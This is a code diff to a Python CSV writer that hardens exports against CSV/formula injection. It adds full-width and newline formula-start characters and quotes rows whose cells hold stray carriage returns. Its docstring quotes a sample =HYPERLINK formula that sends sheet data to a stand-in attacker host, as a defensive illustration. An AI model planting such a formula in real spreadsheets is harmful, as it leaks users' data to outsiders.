@@ -1,9 +1,11 @@
 """The one CSV writer of every export, safe to open in a spreadsheet.
 
-A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
-formula by Excel and LibreOffice (``=HYPERLINK("https://evil.example/?"&A1, "…")`` sends
-the sheet's data away). Following OWASP's advice on CSV injection, such a text cell gets a
-leading single quote, which spreadsheets show as plain text. Numbers (``int``/``float``)
+A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed is
+read as a formula by Excel and LibreOffice (``=HYPERLINK("https://evil.example/?"&A1, "…")``
+sends the sheet's data away); OWASP's page on CSV injection adds the full-width ``＝ ＋ － ＠``,
+which Excel in a Japanese environment reads as formulas too (they are what a Japanese
+keyboard types). Following OWASP's advice, such a text cell gets a leading single quote,
+which spreadsheets show as plain text. Numbers (``int``/``float``)
 are written as they are, so ``-1`` stays a number.
 
 The quote is also added before a text that starts with quotes followed by one of those
@@ -19,7 +21,7 @@ from collections.abc import Iterable
 from datetime import date, datetime
 from typing import Any
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 BOM = "\ufeff"
 
 
@@ -59,8 +61,19 @@ def write(rows: Iterable[Iterable[Any]], *, header: Iterable[str] | None = None,
     if bom:
         buffer.write(BOM)
     writer = csv.writer(buffer, lineterminator=lineterminator)
+    # The writer quotes a cell holding a character of the line terminator only: a carriage
+    # return inside a cell of a file whose lines end in LF would end the row early for every
+    # reader (Excel, LibreOffice, Python), so such a row has all its cells quoted.
+    quoted = csv.writer(buffer, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)
+
+    def put(row: Iterable[Any]) -> None:
+        cells = [neutralise(cell) for cell in row]
+        breaks_line = any(isinstance(cell, str) and "\r" in cell and "\r" not in lineterminator
+                          for cell in cells)
+        (quoted if breaks_line else writer).writerow(cells)
+
     if header is not None:
-        writer.writerow([neutralise(cell) for cell in header])
+        put(header)
     for row in rows:
-        writer.writerow([neutralise(cell) for cell in row])
+        put(row)
     return buffer.getvalue()
